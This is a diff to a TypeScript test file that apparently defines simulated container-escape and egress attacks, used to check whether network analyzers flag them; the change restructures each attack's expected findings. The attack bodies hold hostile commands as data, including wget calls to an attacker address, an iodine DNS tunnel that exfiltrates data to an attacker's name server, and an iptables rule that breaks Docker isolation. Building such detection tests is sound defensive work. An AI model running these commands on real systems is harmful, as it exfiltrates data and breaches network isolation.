@@ -17,8 +17,8 @@ export interface Attack {
   readonly title: string;
   /** One or two sentences for the reader of a narration. */
   readonly story: string;
-  /** What a good observer has to say about it. */
-  readonly expect: string;
+  /** The findings that an observer owes for it, by analyzer and, where it has several, message. */
+  readonly expect: readonly { readonly analyzer: string; readonly message?: string }[];
   run(lab: Lab): Promise<AttackOutcome>;
 }
 
@@ -32,12 +32,16 @@ export interface AttackOutcome {
 const { database, dataNetwork } = SHOP;
 const TARGET = INTERNET.web.v4;
 
+function egress(message: string): { analyzer: string; message: string } {
+  return { analyzer: 'internal-egress', message };
+}
+
 export const straight: Attack = {
   id: 'straight',
   title: 'the database connects to an address on the internet',
   story: `It simply tries: a TCP connection to port 80 and one ping of ${TARGET}. An engine before 25 gives internal
 containers a default route, so the packets cross the bridge and die in the FORWARD chain.`,
-  expect: 'internal-egress, attempted on the wire',
+  expect: [egress('attempted-on-the-wire')],
   async run(lab) {
     const web = await inDatabase(lab, ['timeout', '2', 'wget', '-q', '-O-', `http://${TARGET}/`]);
     const ping = await inDatabase(lab, ['ping', '-c', '1', '-W', '1', TARGET]);
@@ -50,7 +54,7 @@ export const addedRoute: Attack = {
   title: 'the database gives itself a route and tries again',
   story: `With NET_ADMIN it adds a host route over the gateway: what it would need on an engine of 25 or later, where
 internal containers get no default route.`,
-  expect: 'internal-egress, attempted on the wire',
+  expect: [egress('attempted-on-the-wire')],
   async run(lab) {
     const target = INTERNET.attacker.v4;
     return withoutDefaultRoute(lab, async () => {
@@ -70,7 +74,7 @@ export const noRoute: Attack = {
   title: 'the database tries where there is no route',
   story: `The default route is taken away, as an engine of 25 or later never gives one. Now connect() fails at once and
 not one packet appears; only the kernel's OutNoRoutes counter of this container moves.`,
-  expect: 'internal-egress, attempted without a route',
+  expect: [egress('attempted-without-route')],
   async run(lab) {
     return withoutDefaultRoute(lab, async () => {
       let last: RunResult | undefined;
@@ -85,7 +89,7 @@ export const viaGateway: Attack = {
   title: 'the database reaches a service of the host at its gateway address',
   story: `The gateway of an internal network is the host itself, and Docker does not fence it off: whatever listens
 there on every address is in reach.`,
-  expect: 'internal-egress, reached the host',
+  expect: [egress('reached-host')],
   async run(lab) {
     const url = `http://${dataNetwork.gateway}:${SHOP.hostServicePort}/metrics`;
     const answer = await inDatabase(lab, ['timeout', '2', 'wget', '-q', '-O', '/dev/null', url]);
@@ -101,7 +105,7 @@ export const dnsTunnel: Attack = {
   title: `the database tunnels ${TUNNEL_BYTES / 1000} kB out in DNS names, through the resolver of the host`,
   story: `iodine speaks only to the host's resolver at the gateway; the resolver passes the questions on to the name
 server of ${TUNNEL_ZONE}, which is the attacker's. No packet of the database ever leaves the internal network.`,
-  expect: 'dns-tunnel for the zone, and internal-egress: reached the host',
+  expect: [{ analyzer: 'dns-tunnel' }, egress('reached-host')],
   async run(lab) {
     const servers = await startTunnelServer(lab);
     const client = ['iodine', '-f', '-r', '-P', TUNNEL_PASSWORD, dataNetwork.gateway, TUNNEL_ZONE];
@@ -128,7 +132,7 @@ export const isolationBroken: Attack = {
   title: 'somebody broke the isolation, and the database gets out',
   story: `One careless \`iptables -I DOCKER-USER -j ACCEPT\` on the host comes before Docker's own rules. The same
 connection as in the first attack now brings an answer.`,
-  expect: 'internal-egress, succeeded',
+  expect: [egress('succeeded')],
   async run(lab) {
     const rule = ['DOCKER-USER', '-j', 'ACCEPT'];
     const back = [dataNetwork.subnet, 'via', HOST_ADDRESS];
